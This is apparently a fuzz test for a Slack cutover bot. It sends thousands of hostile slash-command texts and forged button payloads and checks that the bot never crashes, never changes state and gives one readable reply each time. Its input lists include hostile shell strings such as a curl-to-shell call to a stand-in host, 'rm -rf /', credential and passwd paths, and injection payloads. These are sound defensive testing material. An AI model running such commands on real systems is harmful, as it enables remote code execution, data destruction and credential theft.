// Issue 5, bad input: thousands of slash-command texts and button payloads, arbitrary and hostile
// (unicode of every kind, huge strings, injection-looking text, plan-name path tricks, NUL bytes,
// RTL overrides, forged and damaged button values, missing fields, wrong types). For each one:
// never a crash, never a state change, always exactly one readable ephemeral reply.
//
// The bulk drives the registered Bolt listeners directly with fake `ack`/`respond` (as Slack's own
// sample apps test listeners), with real Redis and the real engine, plan catalog and workers behind
// them; the work a listener hands over is done at once by the command job's own `perform`, and its
// answer counted as the reply. A smaller batch goes through real signed HTTP to /slack/events of
// the whole bot (where the work goes through the commands queue).
//
// "No state change" is judged on every key of the bot in Redis (BullMQ's and the notifier's cursor
// aside): all equal before and after, except that audit trails may gain `refused` entries
// (refusals are audited by design).
// The people fuzzing are those a change must never come from: someone holding no role in the war
// room, and role holders in another channel; a role holder's clicks in the war room carry values
// that are damaged, forged or stale.
import type { App } from '@slack/bolt';
import fc from 'fast-check';
import type { Redis } from 'ioredis';
import { mkdirSync, writeFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { register } from '../../commands/index.ts';
import { ephemeral, type CommandDeps, type ListenerDeps } from '../../commands/common.ts';
import { perform } from '../../commands/work.ts';
import { PlanCatalog } from '../../src/plans/catalog.ts';
import { encodeButtonValue } from '../../templates/button-value.ts';
import { CARD_ACTIONS } from '../../templates/card.ts';
import { BOT_FAILED, STALE_BUTTON, STORE_DOWN } from '../../templates/replies.ts';
import { checkMessage } from '../fakes/slack-api.ts';
import { notice, testRuntime, waitForAudit, type TestRuntime } from '../support/engine.ts';
import { blockAction, slashCommand } from '../support/slack-requests.ts';
import { ELSEWHERE, NOBODY, RM1, WAR_ROOM, awaitReply, openRoom, quickPlan, startedId, waitForButton, type Room } from '../slack/harness.ts';
import { silentLogger } from '../support/log.ts';

// ---- inputs ------------------------------------------------------------------------------------

const PATH_TRICKS = [
  '../../etc/passwd', '..%2f..%2fetc%2fpasswd', '%2e%2e/%2e%2e/etc/passwd', '..\\..\\windows\\win.ini', '/etc/passwd', '~/.ssh/id_rsa',
  'alpha.yaml', 'alpha.yml', 'alpha/../beta', './alpha', 'alpha\u0000', 'alpha\u0000.yaml', '\u202ealpha', 'alpha\u200b', 'аlpha' /* Cyrillic а */,
  'ＡＬＰＨＡ', 'ALPHA', 'alpha ', ' alpha', 'file:///etc/passwd', '\\\\server\\share', 'con', 'nul', '.', '..', '...', '-', '--help',
];
const INJECTIONS = [
  '$(touch /tmp/cutover-fuzz-pwned)', '`id`', '; rm -rf /', '&& curl evil.example | sh', '| cat /etc/passwd', '> /etc/hosts', '${IFS}', '$HOME',
  '<!channel>', '<!here>', '<@U0RM1>', '<!subteam^S0MANAGERS>', '<#C0WARROOM>', '*bold* _it_ ~s~', '```code```', '<https://evil.example|click>',
  'canary=$(id)', 'canary=../x', 'stable=a;b', 'canary=Rev', `canary=${'a'.repeat(70)}`, 'canary=', 'stable=x stable=y', 'canary=a canary=a',
  '{"c":"x","s":1}', '[object Object]', 'undefined', 'null', 'NaN', '__proto__', 'constructor', 'toString', '%s%s%s%n', '{{7*7}}', "' OR 1=1 --",
];
const HUGE = ['a'.repeat(100_000), '../'.repeat(5_000), ' '.repeat(50_000), '\u202e'.repeat(2_000), 'é'.repeat(20_000), `hold ${'x'.repeat(499)}`, `hold ${'x'.repeat(501)}`];
const SUBCOMMANDS = ['start', 'status', 'hold', 'resume', 'abort', 'plans', 'help', '', 'START', 'Start', 'stop', 'rollback', 'promote', 'approve'];
const PLANS = ['alpha', 'beta', 'idle', 'broken', 'nope'];

const token = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...PATH_TRICKS, ...INJECTIONS, ...PLANS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
);
/** Text a person could type after a slash command: mostly shaped like a command, some pure noise. */
const commandText = fc.oneof(
  { weight: 6, arbitrary: fc.tuple(fc.constantFrom(...SUBCOMMANDS), fc.array(token, { maxLength: 6 })).map(([sub, words]) => [sub, ...words].join(' ')) },
  { weight: 3, arbitrary: fc.tuple(fc.constantFrom(...SUBCOMMANDS), fc.constantFrom(...PLANS), fc.array(token, { maxLength: 3 })).map(([sub, plan, words]) => [sub, plan, ...words].join(' ')) },
  { weight: 2, arbitrary: fc.array(token, { maxLength: 8 }).map((words) => words.join(fc.sample(fc.constantFrom(' ', '  ', '\t', '\n', '\u00a0', '\u3000'), 1)[0]!)) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 600 }) },
  { weight: 1, arbitrary: fc.constantFrom(...HUGE) },
  // Well-formed commands: what a role holder would type, sent by the people here.
  { weight: 1, arbitrary: fc.constantFrom('status alpha', 'status beta', 'status', 'plans', 'hold', 'resume alpha', 'abort beta', 'start idle', 'start alpha canary=rev-2') },
);
const slashName = fc.constantFrom('/cutover', '/promote', '/rollback');

// ---- the bot's listeners, driven directly --------------------------------------------------------

type Listener = (args: Record<string, unknown>) => Promise<void>;

/** The answer being collected by `drive` (one input at a time). */
let collecting: Answer | null = null;

function listeners(deps: CommandDeps): { commands: Map<string, Listener>; action: { matches: RegExp; listener: Listener } } {
  const commands = new Map<string, Listener>();
  let action: { matches: RegExp; listener: Listener } | undefined;
  const app = {
    command: (name: string, listener: Listener) => commands.set(name, listener),
    action: (constraints: { action_id: RegExp }, listener: Listener) => (action = { matches: constraints.action_id, listener }),
  };
  // What the command job does with handed-over work, done at once: the same work, answered once.
  const handOver: ListenerDeps['handOver'] = async (work) => {
    const reply = ephemeral(await perform(deps, work));
    collecting?.replies.push({ via: 'respond', payload: reply });
  };
  // The whole work is done inside this hand-over, so give it longer than a Redis write would need.
  register(app as unknown as App, { handOver, log: deps.log, keepWithinMs: 60_000 });
  if (!action) throw new Error('no action listener registered');
  return { commands, action };
}

interface Answer {
  readonly acks: number;
  readonly replies: Array<{ via: 'ack' | 'respond'; payload: unknown }>;
}

async function drive(listener: Listener, args: Record<string, unknown>): Promise<Answer> {
  const answer: Answer = { acks: 0, replies: [] };
  const ack = async (payload?: unknown) => {
    (answer as { acks: number }).acks += 1;
    if (payload !== undefined) answer.replies.push({ via: 'ack', payload });
  };
  const respond = async (payload: unknown) => {
    answer.replies.push({ via: 'respond', payload });
  };
  collecting = answer;
  try {
    await listener({ ...args, ack, respond, say: async () => ({}), next: async () => undefined, logger: silentLogger() });
  } finally {
    collecting = null;
  }
  return answer;
}

/** One readable ephemeral reply, within Slack's limits, with no stack trace or leaked object. */
function expectReadable(reply: unknown, input: string): void {
  expect(typeof reply, 'a reply object').toBe('object');
  const r = reply as { response_type?: unknown; text?: unknown; blocks?: unknown };
  expect(r.response_type).toBe('ephemeral');
  expect(typeof r.text).toBe('string');
  const text = r.text as string;
  expect(text.trim().length).toBeGreaterThan(0);
  expect(text.length).toBeLessThanOrEqual(3_000);
  expect(checkMessage(r)).toBeNull();
  expect(text).not.toBe(BOT_FAILED);
  expect(text).not.toBe(STORE_DOWN);
  const shown = `${text}\n${JSON.stringify(r.blocks ?? [])}`;
  expect(shown).not.toMatch(/\n\s+at .+:\d+:\d+/);
  expect(shown).not.toMatch(/\b(?:TypeError|RangeError|SyntaxError|ReferenceError)\b/);
  if (!input.includes('[object Object]')) expect(shown).not.toContain('[object Object]');
}

/** What kinds of answer a batch got: proof the inputs reached past the parser, not only its usage line. */
const KINDS: Array<[string, RegExp]> = [
  ['usage', /\nUsage: `/],
  ['help', /^\*Cutover bot\*/],
  ['plans list', /^\*Plans\*/],
  ['status card', /^Cutover \w+:/],
  ['wrong channel', /its commands are only taken there/],
  ['nothing here', /^No cutover is running in this channel/],
  ['unknown plan', /^There is no plan/],
  ['invalid plan', /is not valid, so it cannot start/],
  ['no role', /^You do not hold a role/],
  ['already running', /already/i],
  ['not a card button', /^That button was not made by this bot/],
  ['gone', /^That cutover no longer exists/],
  ['stale', /earlier state/],
];
function kindOf(reply: unknown): string {
  const text = String((reply as { text?: unknown }).text ?? '');
  return KINDS.find(([, pattern]) => pattern.test(text))?.[0] ?? `other: ${text.slice(0, 60)}`;
}

// ---- Redis before and after -------------------------------------------------------------------

type Snapshot = Map<string, unknown>;

async function snapshot(redis: Redis, prefix: string): Promise<Snapshot> {
  const keys: string[] = [];
  let cursor = '0';
  do {
    const [next, batch] = await redis.scan(cursor, 'MATCH', `${prefix}:*`, 'COUNT', 1000);
    cursor = next;
    // What the bot's own background work drains is not state: BullMQ's keys, the war room's
    // delivery cursor (the notifier may still be catching up on entries from before), and the
    // outboxes the dispatcher and its sweep empty. No refused input commits anything, so nothing
    // new is ever announced or dispatched; the states themselves are compared below.
    const drained = (k: string) => k.startsWith(`${prefix}:bull:`) || k.endsWith(':room') || k.endsWith(':outbox') || k === `${prefix}:outbox`;
    keys.push(...batch.filter((k) => !drained(k)));
  } while (cursor !== '0');
  const out: Snapshot = new Map();
  for (const key of keys.sort()) {
    const type = await redis.type(key);
    if (type === 'string') out.set(key, await redis.get(key));
    else if (type === 'hash') out.set(key, await redis.hgetall(key));
    else if (type === 'list') out.set(key, await redis.lrange(key, 0, -1));
    else if (type === 'set') out.set(key, (await redis.smembers(key)).sort());
    else if (type === 'zset') out.set(key, await redis.zrange(key, '0', '-1', 'WITHSCORES'));
    else if (type === 'stream') out.set(key, (await redis.xrange(key, '-', '+')).map(([, fields]) => JSON.parse(fields[1] as string)));
    else out.set(key, type);
  }
  return out;
}

/** Equal, but for `refused` entries appended to audit streams. */
function expectUnchanged(before: Snapshot, after: Snapshot): { refused: number } {
  expect([...after.keys()]).toEqual([...before.keys()]);
  let refused = 0;
  for (const [key, value] of before) {
    const now = after.get(key);
    if (key.endsWith(':audit')) {
      const entries = now as Array<{ type: string }>;
      expect(entries.slice(0, (value as unknown[]).length), key).toEqual(value);
      const added = entries.slice((value as unknown[]).length);
      expect(added.filter((e) => e.type !== 'refused'), key).toEqual([]);
      refused += added.length;
    } else {
      expect(now, key).toEqual(value);
    }
  }
  return { refused };
}

// ---- the world --------------------------------------------------------------------------------

let dir: string;
let runtime: TestRuntime;
let deps: CommandDeps;
let alpha: string;
let beta: string;

function writePlans(plansDir: string): void {
  mkdirSync(plansDir, { recursive: true });
  for (const name of ['alpha', 'beta', 'idle']) writeFileSync(join(plansDir, `${name}.yaml`), quickPlan(name));
  writeFileSync(join(plansDir, 'broken.yaml'), quickPlan('broken', (doc) => (doc.stages = [50, 10])));
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'cutover-fuzz-'));
  writePlans(join(dir, 'plans'));
  runtime = await testRuntime();
  const catalog = new PlanCatalog(join(dir, 'plans'), runtime.vocabulary);
  deps = { engine: runtime.engine, catalog, log: silentLogger(), now: Date.now };
  // Two cutovers that stay put: one waiting for its go/no-go, one held before any traffic moved.
  const start = async (name: string) => {
    const loaded = await catalog.load(name);
    if (!loaded.ok) throw new Error(loaded.errors.join('; '));
    const started = await runtime.engine.start(loaded.plan, 'U0RM1');
    if (!started.ok) throw new Error(started.refusal.code);
    await waitForAudit(runtime.store, started.state.id, notice('go_no_go_requested'));
    return started.state.id;
  };
  alpha = await start('alpha');
  beta = await start('beta');
  expect((await runtime.engine.command(beta, { type: 'hold', by: 'U0RM1', reason: 'waiting for the DBA' })).ok).toBe(true);
});

afterAll(async () => {
  await runtime?.close({ force: true });
  if (dir) await rm(dir, { recursive: true, force: true });
});

/** The people: no role in the war room, or a role holder in another channel. */
const commandAsker = fc.constantFrom({ user: NOBODY, channel: WAR_ROOM }, { user: RM1, channel: ELSEWHERE }, { user: NOBODY, channel: ELSEWHERE }, { user: 'U0RM2', channel: 'D0DIRECT' });

describe('slash commands: arbitrary and hostile text', () => {
  it('2,400 texts across /cutover, /promote and /rollback: no crash, no state change, one readable ephemeral reply each', async () => {
    const { commands } = listeners(deps);
    const before = await snapshot(runtime.redis, runtime.prefix);
    const versions = async () => Promise.all([alpha, beta].map((id) => runtime.redis.hget(runtime.store.key(id, 'state'), 'v')));
    const stateVersions = await versions();
    const crashes: unknown[] = [];
    const onCrash = (error: unknown) => crashes.push(error);
    process.on('unhandledRejection', onCrash);
    let runs = 0;
    const seen = new Set<string>();
    try {
      await fc.assert(
        fc.asyncProperty(slashName, commandText, commandAsker, async (name, text, asker) => {
          runs++;
          const answer = await drive(commands.get(name)!, {
            command: { command: name, text, user_id: asker.user, channel_id: asker.channel, team_id: 'T0FAKE', response_url: 'http://127.0.0.1:9/r', trigger_id: 't' },
            body: { command: name, text, user_id: asker.user, channel_id: asker.channel },
          });
          expect(answer.acks).toBe(1);
          expect(answer.replies).toHaveLength(1);
          expectReadable(answer.replies[0]!.payload, text);
          seen.add(kindOf(answer.replies[0]!.payload));
          expect(await versions()).toEqual(stateVersions);
        }),
        {
          numRuns: 2_400,
          // Besides the random ones, one input of each kind of answer, so every path is always reached.
          examples: [
            ['/cutover', 'start broken', { user: NOBODY, channel: WAR_ROOM }],
            ['/cutover', 'start nope', { user: NOBODY, channel: WAR_ROOM }],
            ['/cutover', 'start idle', { user: NOBODY, channel: WAR_ROOM }],
            ['/cutover', 'status alpha', { user: NOBODY, channel: WAR_ROOM }],
            ['/cutover', 'hold alpha ../../etc/passwd', { user: NOBODY, channel: WAR_ROOM }],
            ['/cutover', 'plans', { user: RM1, channel: ELSEWHERE }],
            ['/cutover', 'help', { user: RM1, channel: ELSEWHERE }],
            ['/promote', '', { user: NOBODY, channel: ELSEWHERE }],
            ['/rollback', 'alpha $(touch /tmp/cutover-fuzz-pwned)', { user: RM1, channel: ELSEWHERE }],
            ['/cutover', 'start ../../etc/passwd', { user: NOBODY, channel: WAR_ROOM }],
          ],
        },
      );
    } finally {
      process.off('unhandledRejection', onCrash);
    }
    expect(runs).toBe(2_400);
    expect(crashes).toEqual([]);
    for (const kind of ['usage', 'help', 'plans list', 'status card', 'wrong channel', 'nothing here', 'unknown plan', 'invalid plan', 'no role']) expect(seen, kind).toContain(kind);
    expectUnchanged(before, await snapshot(runtime.redis, runtime.prefix));
    await expect(import('node:fs/promises').then((fs) => fs.access('/tmp/cutover-fuzz-pwned'))).rejects.toThrow();
  });
});

// ---- button payloads ----------------------------------------------------------------------------

const cutoverRef = () => fc.constantFrom(alpha, beta, 'gone-20260101t000000z-abcd', '../../etc', 'ALPHA', `${alpha}\u0000`, alpha.toUpperCase(), `${alpha}-x`);
const seq = fc.oneof(fc.integer({ min: -3, max: 12 }), fc.constantFrom(0, 1_000_000, 1_000_001, Number.MAX_SAFE_INTEGER), fc.double(), fc.string({ maxLength: 4 }), fc.constant(null));
/** Values a card never wrote: damaged JSON, wrong shapes and types, forged refs, oversized. */
const buttonValue = () => fc.oneof(
  { weight: 4, arbitrary: fc.record({ c: fc.oneof(cutoverRef(), fc.string()), s: seq }).map((v) => JSON.stringify(v)) },
  // Right shape, a running cutover, a recent phaseSeq: it reaches the engine (stale, or not yours).
  { weight: 3, arbitrary: fc.record({ c: fc.constantFrom(alpha, beta), s: fc.integer({ min: 1, max: 5 }) }).map((v) => encodeButtonValue(v)) },
  { weight: 2, arbitrary: fc.record({ c: cutoverRef(), s: fc.integer({ min: 1, max: 12 }), x: fc.jsonValue() }, { requiredKeys: ['c', 's'] }).map((v) => JSON.stringify(v)) },
  { weight: 2, arbitrary: fc.json() },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 300 }) },
  { weight: 1, arbitrary: fc.constantFrom(...INJECTIONS, ...PATH_TRICKS, '', ' ', '{', '{"c":', 'a'.repeat(2_001), JSON.stringify({ c: 'a'.repeat(5_000), s: 1 })) },
  // Not even a string: a payload whose value has the wrong type, or none at all.
  { weight: 1, arbitrary: fc.constantFrom<unknown>(undefined, null, 42, true, { c: 'x', s: 1 }, ['x']) },
);
const clicker = fc.constantFrom({ user: NOBODY, channel: WAR_ROOM as string | undefined }, { user: RM1, channel: ELSEWHERE }, { user: RM1, channel: WAR_ROOM }, { user: RM1, channel: undefined });

describe('button payloads: forged, damaged and stale', () => {
  it('1,200 clicks: no crash, no state change, one readable ephemeral reply each', async () => {
    const { action } = listeners(deps);
    const current = new Map(await Promise.all([alpha, beta].map(async (id) => [id, (await runtime.store.loadState(id))!.phaseSeq] as const)));
    const before = await snapshot(runtime.redis, runtime.prefix);
    const crashes: unknown[] = [];
    const onCrash = (error: unknown) => crashes.push(error);
    const seen = new Set<string>();
    process.on('unhandledRejection', onCrash);
    try {
      await fc.assert(
        fc.asyncProperty(fc.constantFrom(...CARD_ACTIONS), buttonValue(), clicker, async (actionId, value, who) => {
          // A role holder's click on the current card in the war room is a real decision: not fuzzed.
          const parsed = typeof value === 'string' ? (() => { try { return JSON.parse(value) as { c?: unknown; s?: unknown }; } catch { return null; } })() : null;
          fc.pre(!(who.user === RM1 && who.channel === WAR_ROOM && parsed && current.get(parsed.c as string) === parsed.s));
          expect(action.matches.test(actionId)).toBe(true);
          const act = { action_id: actionId, block_id: 'actions', type: 'button', action_ts: '1.2', ...(value === undefined ? {} : { value }) };
          const answer = await drive(action.listener, {
            action: act,
            body: { type: 'block_actions', user: { id: who.user }, ...(who.channel ? { channel: { id: who.channel } } : {}), actions: [act], response_url: 'http://127.0.0.1:9/r' },
          });
          expect(answer.acks).toBe(1);
          expect(answer.replies).toHaveLength(1);
          expect(answer.replies[0]!.via).toBe('respond');
          expectReadable(answer.replies[0]!.payload, String(value));
          seen.add(kindOf(answer.replies[0]!.payload));
        }),
        {
          numRuns: 1_200,
          examples: [
            ['approve', encodeButtonValue({ c: alpha, s: current.get(alpha)! }), { user: NOBODY, channel: WAR_ROOM }],
            ['resume', encodeButtonValue({ c: beta, s: current.get(beta)! - 1 }), { user: RM1, channel: WAR_ROOM }],
            ['hold', encodeButtonValue({ c: alpha, s: current.get(alpha)! }), { user: RM1, channel: ELSEWHERE }],
            ['rollback', encodeButtonValue({ c: 'gone-20260101t000000z-abcd', s: 1 }), { user: RM1, channel: WAR_ROOM }],
            ['promote', '{"c":"../../etc","s":1}', { user: RM1, channel: WAR_ROOM }],
          ],
        },
      );
    } finally {
      process.off('unhandledRejection', onCrash);
    }
    expect(crashes).toEqual([]);
    for (const kind of ['not a card button', 'gone', 'wrong channel', 'no role', 'stale']) expect(seen, kind).toContain(kind);
    const { refused } = expectUnchanged(before, await snapshot(runtime.redis, runtime.prefix));
    // Some forged clicks reached the engine (right shape, wrong person or stale) and were refused there.
    expect(refused).toBeGreaterThan(0);
  });
});

// ---- through real signed HTTP -----------------------------------------------------------------

describe('through real signed HTTP to /slack/events', () => {
  let room: Room;
  let roomAlpha: string;

  beforeAll(async () => {
    room = await openRoom({ alpha: quickPlan('alpha'), idle: quickPlan('idle'), broken: quickPlan('broken', (doc) => (doc.stages = [50, 10])) });
    roomAlpha = startedId(await room.slash('/cutover', 'start alpha'));
    await waitForButton(room.fake, roomAlpha, 'approve');
  });

  afterAll(async () => {
    await room?.close();
  });

  it('300 commands and 150 clicks, a few at a time: each answered once, readable, ephemeral; nothing changed', async () => {
    const { fake } = room;
    const redis = room.bot.runtime.redis;
    const prefix = room.bot.runtime.store.prefix;
    const before = await snapshot(redis, prefix);
    const texts = fc.sample(fc.tuple(slashName, commandText, commandAsker), 300);
    const clicks = fc.sample(fc.tuple(fc.constantFrom(...CARD_ACTIONS), buttonValue().filter((v): v is string => typeof v === 'string'), fc.constantFrom({ user: NOBODY, channel: WAR_ROOM }, { user: RM1, channel: ELSEWHERE })), 150);
    let n = 0;
    const one = async (job: () => Promise<void>) => job();
    const jobs: Array<() => Promise<void>> = [
      ...texts.map(([name, text, who]) => async () => {
        const id = `fz${++n}`;
        const trigger = `${Date.now()}.${id}.fake-trigger`;
        const body = slashCommand({ command: name, text, user_id: who.user, channel_id: who.channel, response_url: fake.responseUrl(id), trigger_id: trigger });
        const res = await room.post(body);
        // `/cutover start` alone is answered with the start dialog (a modal), not a reply: it changes nothing until submitted.
        if (name === '/cutover' && /^\s*start\s*$/i.test(text)) {
          expect([res.status, res.body]).toEqual([200, '']);
          const opened = await fake.waitFor((f) => f.callsTo('views.open').find((c) => c.body.trigger_id === trigger));
          expect(opened.response).toMatchObject({ ok: true });
          return;
        }
        const reply = await awaitReply(fake, res, id);
        expectReadable({ response_type: reply.response_type, text: reply.text, ...(reply.blocks ? { blocks: reply.blocks } : {}) }, text);
      }),
      ...clicks.map(([actionId, value, who]) => async () => {
        const id = `fz${++n}`;
        const body = blockAction({ user: who.user, channel: who.channel, actionId, value, responseUrl: fake.responseUrl(id) });
        const reply = await awaitReply(fake, await room.post(body), id);
        expectReadable({ response_type: reply.response_type, text: reply.text }, value);
      }),
    ];
    // Six at a time, like a busy channel.
    const queue = [...jobs];
    await Promise.all(Array.from({ length: 6 }, async () => {
      for (let job = queue.shift(); job; job = queue.shift()) await one(job);
    }));
    // Exactly one reply per request: none answered twice through the response_url.
    const perUrl = new Map<string, number>();
    for (const r of fake.responses()) perUrl.set(r.id, (perUrl.get(r.id) ?? 0) + 1);
    expect([...perUrl.values()].filter((count) => count > 1)).toEqual([]);
    expectUnchanged(before, await snapshot(redis, prefix));
    // The bot is still healthy: a real command still works.
    expect((await room.slash('/cutover', 'status alpha')).text).toContain('alpha');
  });

  it('damaged click payloads Slack never sends (only a holder of the signing secret could): refused or unrouted, nothing changed, the bot carries on', async () => {
    const { fake } = room;
    const redis = room.bot.runtime.redis;
    const prefix = room.bot.runtime.store.prefix;
    const approve = await waitForButton(fake, roomAlpha, 'approve');
    const before = await snapshot(redis, prefix);
    const payload = (id: string, mutate: (p: any) => void) => {
      const p = JSON.parse(new URLSearchParams(blockAction({ user: NOBODY, channel: WAR_ROOM, actionId: 'approve', value: approve.value, responseUrl: fake.responseUrl(id) })).get('payload')!);
      mutate(p);
      return new URLSearchParams({ payload: JSON.stringify(p) }).toString();
    };
    // Routed to the listener: one readable ephemeral reply each.
    const answered: Array<[string, (p: any) => void, RegExp]> = [
      ['value a number', (p) => (p.actions[0].value = 42), /not made by this bot/],
      ['value an object', (p) => (p.actions[0].value = { c: roomAlpha, s: approve.seq }), /not made by this bot/],
      ['value null', (p) => (p.actions[0].value = null), /not made by this bot/],
      ['value missing', (p) => delete p.actions[0].value, /not made by this bot/],
      ['no channel', (p) => delete p.channel, /its commands are only taken there/],
      ['a user without an id', (p) => (p.user = { name: 'x' }), /You do not hold a role/],
    ];
    for (const [what, mutate, words] of answered) {
      const id = `dmg${what.replaceAll(' ', '')}`;
      const reply = await awaitReply(fake, await room.post(payload(id, mutate)), id);
      expectReadable({ response_type: reply.response_type, text: reply.text }, '');
      expect(reply.text, what).toMatch(words);
    }
    // Not a click the bot knows, or not a payload at all: no listener is called, and the answer
    // comes at once (src/app/unanswered.ts): acked, the clicker told the button is no longer
    // valid; 400 for a body that is not a JSON object.
    const unrouted: Array<[string, string, number]> = [
      ['unknown action_id', payload('u1', (p) => (p.actions[0].action_id = 'launch_missiles')), 200],
      ['no actions', payload('u2', (p) => (p.actions = [])), 200],
      ['another interaction type', payload('u3', (p) => (p.type = 'view_submission')), 200],
      ['payload not JSON', 'payload=%7Bnot-json', 400],
      ['empty payload', 'payload=', 400],
    ];
    const statuses = await Promise.all(unrouted.map(async ([, body]) => (await room.post(body)).status));
    expect(statuses).toEqual(unrouted.map(([, , status]) => status));
    for (const id of ['u1', 'u2']) expect((await fake.waitFor((f) => f.responses(id)[0])).text).toBe(STALE_BUTTON);
    // Not a click: acked, and nobody to tell.
    expect(fake.responses('u3')).toEqual([]);
    const { refused } = expectUnchanged(before, await snapshot(redis, prefix));
    expect(refused).toBe(1);
    expect((await room.slash('/cutover', 'status alpha')).text).toContain('alpha');
  });
});
